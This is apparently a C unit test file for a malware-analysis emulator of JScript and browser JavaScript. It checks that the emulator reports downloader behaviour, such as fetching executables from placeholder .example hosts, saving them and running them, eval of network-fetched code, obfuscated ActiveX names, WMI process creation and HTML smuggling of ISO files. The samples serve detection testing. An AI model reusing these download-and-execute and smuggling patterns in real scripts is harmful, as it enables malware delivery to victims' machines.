/* What scripts and pages would do, one row a technique. All inert: hosts and programs do not exist. */
#include "unit/emulate/javascript/ran_script.h"

typedef struct technique {
    const char *name, *text;
    const char *want[5];
} technique;

static const technique scripts[] = {
    {"download and run",
     "var sh = new ActiveXObject('WScript.Shell'), x = WScript.CreateObject('MSXML2.XMLHTTP');\n"
     "var p = sh.ExpandEnvironmentStrings('%TEMP%') + '\\\\' + 'q.exe', hosts = 'a.example b.example'.split(' ');\n"
     "for (var i = 0; i < hosts.length; i++) { x.open('GET', 'http://' + hosts[i] + '/1', false); x.send();\n"
     "if (x.status == 200) { var s = new ActiveXObject('ADODB.Stream'); s.Open(); s.Type = 1; s.Write(x.ResponseBody);\n"
     "if (s.size > 5000) { s.position = 0; s.SaveToFile(p, 2); sh.Run(p, 0, false); break } } }",
     {"url=http://a.example/1", "url=http://b.example/1", "result=succeeded", "run command=C:\\Users\\admin\\AppData\\Local\\Temp\\q.exe", "flow=network"}},
    {"names by calculation, layers of eval",
     "var k = 'Act' + 'iveXObject', c = this[k]; eval('var s' + 'h = new c(\"WSc\" + \"ript.Shell\")');\n"
     "sh['R' + 'un']('cmd /c ' + String.fromCharCode(101, 99, 104, 111) + ' 1');",
     {"run command=cmd /c echo 1", "flow=computed", "child eval.js script.javascript var sh"}},
    {"with, onreadystatechange and members without case",
     "var x = new ActiveXObject('Msxml2.ServerXMLHTTP.6.0'); x.onreadystatechange = function () { if (x.readystate == 4 && x.STATUS == 200)\n"
     "with (new ActiveXObject('ADODB.Stream')) { open(); type = 1; write(x.responseBody); saveToFile('C:\\\\t\\\\w.exe', 2); close() } };\n"
     "x.open('GET', 'http://with.example/', false); x.send();",
     {"url=http://with.example/", "write path=C:\\t\\w.exe", "network"}},
    {"content that is looked at first",
     "var f = new ActiveXObject('Scripting.FileSystemObject'), x = new ActiveXObject('MSXML2.XMLHTTP'), s = new ActiveXObject('ADODB.Stream');\n"
     "x.open('GET', 'http://mz.example/', 0); x.send(); s.Open(); s.Type = 1; s.Write(x.responseBody); s.SaveToFile('C:\\\\q.exe');\n"
     "if (f.GetFile('C:\\\\q.exe').OpenAsTextStream(1).Read(2) == 'MZ') new ActiveXObject('Shell.Application').ShellExecute('C:\\\\q.exe');",
     {"url=http://mz.example/", "run command=C:\\q.exe"}},
    {"code from the network",
     "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://code.example/', 0); x.send(); eval(x.responseText)",
     {"run command={text of http://code.example/}", "via=eval flow=network"}},
    {"default members and parameters",
     "var e = new ActiveXObject('WScript.Shell').Environment('PROCESS'); e('Q1') = 'inert'; WScript.Echo(e('Q1'), e.Item('q1'), typeof e);",
     {"text=inert inert object"}},
    {"enumerators and WMI",
     "var w = GetObject('winmgmts:\\\\\\\\.\\\\root\\\\cimv2'), e = new Enumerator(w.ExecQuery('Select * from Win32_Process'));\n"
     "for (; !e.atEnd(); e.moveNext()) e.item(); GetObject('winmgmts:Win32_Process').Create('none.exe /x');",
     {"run command=none.exe /x"}},
    {"waits and tries again for ever",
     "var x = new ActiveXObject('MSXML2.XMLHTTP'), n = 0; while (true) { x.open('GET', 'http://again.example/' + n++, 0); x.send();\n"
     "if (x.status == 200) { new ActiveXObject('WScript.Shell').Run('gone.exe'); break } WScript.Sleep(60000) }",
     {"url=http://again.example/0", "run command=gone.exe"}},
    {"timers", "setTimeout(function () { WScript.Echo('later') }, 1000); setTimeout('WScript.Echo(\"text\")', 10);", {"text=later", "text=text"}},
    {"errors that the program expects", "try { missing() } catch (e) { WScript.Echo('caught ' + (e instanceof Error)) }", {"text=caught true"}},
    {"Japanese text", "WScript.Echo('\xE8\xAB\x8B\xE6\xB1\x82' + String.fromCharCode(0x66F8))", {"text=\xE8\xAB\x8B\xE6\xB1\x82\xE6\x9B\xB8"}},
};

static const technique pages[] = {
    {"a file that is built",
     "var b = new Blob([Uint8Array.from(atob('aW5lcnQgdGV4dCBpbnNpZGU='), c => c.charCodeAt(0))]); var a = document.createElement('a');\n"
     "a.href = URL.createObjectURL(b); a.download = 'Invoice.iso'; document.body.appendChild(a); a.click();",
     {"write path=C:\\Users\\admin\\Downloads\\Invoice.iso", "flow=decoded", "child Invoice.iso ? inert text inside"}},
    {"a link that is left to the reader",
     "var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['inert text to be clicked'])); a.download = 'Offer.zip'; document.body.appendChild(a);\n"
     "var d = document.createElement('a'); d.href = 'data:text/plain;base64,aW5lcnQgdGV4dCBpbnNpZGU='; d.download = 'Second.iso'; document.body.appendChild(d);",
     {"child Offer.zip ? inert text to be clicked", "child Second.iso ? inert text inside"}},
    {"a link that gets its file on a click elsewhere",
     "var a = document.createElement('a'); document.body.appendChild(a); a.download = 'Late.img';\n"
     "document.addEventListener('mousemove', function () { a.href = URL.createObjectURL(new Blob(['inert text come late'])) });",
     {"child Late.img ? inert text come late"}},
    {"the same for older browsers", "navigator.msSaveOrOpenBlob(new Blob(['some inert text']), 'old.zip');", {"child old.zip ? some inert text"}},
    {"addresses",
     "document.write(unescape('%3Cb%3Ehello there%3C/b%3E')); location = 'https://l.example/'; window.open('https://w.example/');",
     {"child written.html ? <b>hello there</b>", "url=https://l.example/", "url=https://w.example/"}},
    {"promises and fetch",
     "(async () => { const r = await fetch('https://f.example/', {method: 'POST'}); eval(await r.text()) })();",
     {"download url=https://f.example/ method=POST via=fetch", "load library={text of https://f.example/}"}},
    {"elements from texts",
     "window.addEventListener('load', function () { document.body.innerHTML = '<a id=q href=\"https://i.example/\">x</a>'; q2() });\n"
     "function q2() { document.getElementById('q').click() }",
     {"url=https://i.example/", "child written.html"}},
    {"waiting for a person", "document.addEventListener('mousemove', e => { if (e.isTrusted) location.href = 'ms-word:ofe|u|https://o.example/d' });",
     {"run command=ms-word:ofe|u|https://o.example/d"}},
    {"scripts that scripts add",
     "var s = document.createElement('script'); s.src = 'https://s.example/x.js'; document.head.appendChild(s); s = document.createElement('script');\n"
     "s.text = 'alert(\"in\" + \"side\")'; document.body.appendChild(s);",
     {"url=https://s.example/x.js", "text=inside"}},
    {"readers", "var r = new FileReader(); r.onload = () => alert(r.result); r.readAsDataURL(new Blob(['abc'], {type: 'a/b'}));",
     {"text=data:a/b;base64,YWJj"}},
};

static void check(const technique *rows, size_t count, const sk_javascript_options *options)
{
    for (size_t i = 0; i < count; i++) {
        ran_script r = run_script_with(rows[i].text, options, NULL, 0);
        for (size_t k = 0; k < SK_COUNT(rows[i].want) && rows[i].want[k]; k++) want_told(&r, rows[i].name, rows[i].want[k]);
        assert_false(r.made->budget.reached[SK_LIMIT_JAVASCRIPT_STEPS]);
        end_script(&r);
    }
}

static void test_scripts(void **state)
{
    (void)state;
    check(scripts, SK_COUNT(scripts), NULL);
}

static void test_pages(void **state)
{
    static const sk_javascript_options page = {.host = SK_JAVASCRIPT_PAGE};
    (void)state;
    check(pages, SK_COUNT(pages), &page);
}

/* To look at a member is not to call it, and what ends a script ends it. */
static void test_calls_and_looks(void **state)
{
    (void)state;
    ran_script r = run_script(
        "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://never.example/', false); var f = x.open; typeof x.open;\n"
        "WScript.Echo('before'); try { WScript.Quit(1) } catch (e) { WScript.Echo('caught') } finally { WScript.Echo('finally') } WScript.Echo('after');");
    want_told(&r, "quit", "text=before");
    want_untold(&r, "never.example");
    want_untold(&r, "text=caught");
    want_untold(&r, "text=finally");
    want_untold(&r, "text=after");
    end_script(&r);
}

/* Elements hold what scripts read, and call what stands in their attributes. */
static void test_page_elements(void **state)
{
    (void)state;
    make_world *m = make_world_new();
    sk_page *page = sk_page_new(m->arena, 1);
    sk_page_element *body = sk_page_add_element(page, &(sk_page_element){.tag = SK_LIT("body"), .parent = UINT32_MAX});
    sk_page_element *div = sk_page_add_element(page, &(sk_page_element){.tag = SK_LIT("div"), .text = SK_LIT("inner"), .parent = body->index});
    sk_page_add_attribute(page, div, SK_LIT("id"), SK_LIT("store"));
    sk_page_add_attribute(page, div, SK_LIT("data-part"), SK_LIT("kept"));
    sk_page_add_attribute(page, body, SK_LIT("onload"), SK_LIT("finish()"));
    sk_javascript_options options = {.host = SK_JAVASCRIPT_HTA, .page = page};
    sk_javascript_figures figures = {0};
    sk_bytes text = SK_LIT("var one = document.getElementById('store').innerText;\n"
                           "function finish() { alert(one + ' ' + store.dataset.part + ' ' + document.querySelector('#store').getAttribute('data-part')) }");
    sk_javascript_run(m->world, (sk_place){.artifact = 2, .len = text.len}, text, &options, &figures);
    assert_non_null(strstr(make_world_told(m), "text=inner kept kept"));
    assert_int_equal(figures.errors, 0);
    make_world_free(m);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_scripts), cmocka_unit_test(test_pages), cmocka_unit_test(test_calls_and_looks),
                                       cmocka_unit_test(test_page_elements)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
